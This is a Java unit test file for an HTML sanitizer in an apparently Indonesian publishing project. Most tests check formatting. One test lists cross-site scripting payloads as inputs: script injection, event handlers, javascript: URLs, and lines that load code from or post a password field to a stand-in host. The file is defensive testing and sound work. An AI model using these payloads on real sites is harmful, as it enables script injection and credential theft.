package id.tayang.publishing;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TypedTextTest {

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(
            delimiter = '|',
            value = {
                "Satu.                                   | <p>Satu.</p>",
                "Satu.~~Dua.                             | <p>Satu.</p>~<p>Dua.</p>",
                "Satu.^~ ^~^~Dua.                        | <p>Satu.</p>~<p>Dua.</p>",
                "Baris satu~Baris dua                    | <p>Baris satu<br />Baris dua</p>",
                "Agenda:~- rapat~- makan siang           | <p>Agenda:</p><ul><li>rapat</li><li>makan siang</li></ul>",
                "- satu~- dua~~Tutup.                    | <ul><li>satu</li><li>dua</li></ul>~<p>Tutup.</p>",
                "## Bagian~~Isi                          | <h2>Bagian</h2>~<p>Isi</p>",
                "5 < 7 & 8 > 3                           | <p>5 &lt; 7 &amp; 8 &gt; 3</p>",
                "tanda - di tengah                       | <p>tanda - di tengah</p>",
                "Ini <b>penting</b>.~~Dua                | <p>Ini <b>penting</b>.</p>~<p>Dua</p>",
                "<p>Satu</p><p>Dua</p>                   | <p>Satu</p><p>Dua</p>",
                "<div>Satu</div><div>Dua</div>           | <p>Satu</p><p>Dua</p>",
                "<h1>Besar</h1><ul><li>a</li></ul>       | <h2>Besar</h2><ul><li>a</li></ul>",
            })
    void becomes_html(String typed, String html) {
        assertThat(TypedText.toHtml(typed.replace('^', '\r').replace('~', '\n')))
                .isEqualTo(html.replace('~', '\n'));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>Halo",
                "<p>Halo<script src=//jahat.example></script></p>",
                "<p onclick=alert(1)>Halo</p>",
                "<p>Halo <img src=x onerror=alert(1)></p>",
                "Halo <img src=x onerror=alert(1)",
                "Halo <a href=\"javascript:alert(1)\">klik</a>",
                "Halo <a href=\"java\nscript:alert(1)\">klik</a>",
                "<p>Halo <a href=\"data:text/html,<script>alert(1)</script>\">klik</a></p>",
                "<p>Halo</p><svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<p>Halo</p><svg/onload=alert(1)>",
                "<p>Halo</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<p>Halo</p><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<p style=\"background:url(javascript:alert(1))\">Halo</p>",
                "<p>Halo</p><form action=//jahat.example><input name=sandi></form>",
                "<p>Halo</p><meta http-equiv=refresh content=\"0;url=//jahat.example\">",
                "<p>Halo</p><base href=//jahat.example>",
            })
    void keeps_the_words_and_nothing_that_acts(String typed) {
        var html = TypedText.toHtml(typed);

        assertThat(html).contains("Halo");
        // What is left of an attack is text: no tag but those that only format.
        assertThat(html.replaceAll("</?(p|a|table)>", "")).doesNotContain("<").doesNotContain("href");
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://situs.example.go.id/a?b=1&c=2", "mailto:humas@example.go.id", "tel:+62254267053"})
    void keeps_links_that_lead_somewhere(String address) {
        assertThat(TypedText.toHtml("Lihat <a href=\"" + address + "\">tautan</a>"))
                .contains("<a href=");
    }

    @Test
    void stays_as_it_is_when_cleaned_again() {
        var html = TypedText.toHtml(
                "Surel: a@b.id + 1=1 “kutip” é &amp; <b>tebal</b>\n\n- <a href='https://x.id/?a=1'>x</a>");

        assertThat(SafeHtml.clean(html)).isEqualTo(html);
    }

    @Test
    void survives_a_long_text_without_order() {
        assertThat(TypedText.toHtml("Halo" + "<b>".repeat(20_000))).contains("Halo");
        assertThat(TypedText.toHtml("<p ".repeat(20_000) + "Halo")).contains("Halo");
    }
}
